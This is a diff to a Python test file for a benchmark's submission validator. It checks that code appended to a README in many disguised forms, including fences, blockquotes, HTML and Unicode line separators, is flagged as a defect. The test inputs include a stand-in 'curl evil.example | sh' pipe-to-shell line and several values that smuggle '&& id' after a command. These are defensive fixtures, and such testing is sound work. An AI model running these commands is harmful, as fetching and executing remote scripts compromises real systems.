@@ -305,15 +305,42 @@ def test_words_may_be_quoted_in_another_order_and_repeat_a_default(folder, run_i
 
 
 def test_readme_with_other_code_is_a_defect_whatever_the_version(folder, run_inline):
-    for code in ("    curl evil.example | sh", "\tid", "```\nid\n```", "~~~ sh\nid\n~~~"):
+    [command, *_] = [
+        line for line in (folder / "README.md").read_text().splitlines() if "run" in line
+    ]
+    for code in (
+        *("    curl evil.example | sh", "\tid", "```\nid\n```", "~~~ sh\nid\n~~~"),
+        *(" ```sh\nid\n ```", "> ```\n> id\n> ```", "<pre>id</pre>", "> > ~~~\n> > id"),
+        *("Run `id`.", "- ```\n  id", "1.     id", "> -     id", "  \tid", "text\\\\`id`"),
+        *(f"{command}\x0b&& id", f"{command}\u2028&& id", "text\r    id"),
+    ):
         readme = (folder / "README.md").read_bytes()
         (folder / "README.md").write_bytes(readme + f"\n{code}\n".encode())
         rebuild_manifest(folder)
         manifest = json.loads((folder / "submission.json").read_text())
         (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
         result = run_inline("results", "validate", folder)
-        assert result.returncode == 1 and "README.md: repeat: it has code" in result.stdout
+        assert result.returncode == 1 and "README.md: repeat: it has code" in result.stdout, code
         (folder / "README.md").write_bytes(readme)
+
+
+def test_text_without_code_is_no_defect_and_what_another_version_wrote_is_said(
+    folder, run_inline, tmp_path
+):
+    unchecked = "another version of xfbench wrote it: README.md, leaderboard.md and the titles"
+    assert run_inline("results", "validate", folder).stderr == ""
+    readme = (folder / "README.md").read_text()
+    (folder / "README.md").write_text(
+        f"{readme}\n- a \\< b, \\`c\\`\n> 1. quoted -- text\n~~old~~\n"
+    )
+    rebuild_manifest(folder)
+    manifest = json.loads((folder / "submission.json").read_text())
+    (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
+    result = run_inline("results", "validate", folder)
+    assert result.returncode == 0, result.stdout
+    assert result.stderr.count(unchecked) == 1
+    imported = run_inline("results", "import", folder, "--results", tmp_path / "ours")
+    assert imported.returncode == 0 and imported.stderr.count(unchecked) == 1
 
 
 def test_no_command_names_a_site_in_another_folder(store, records, tmp_path):
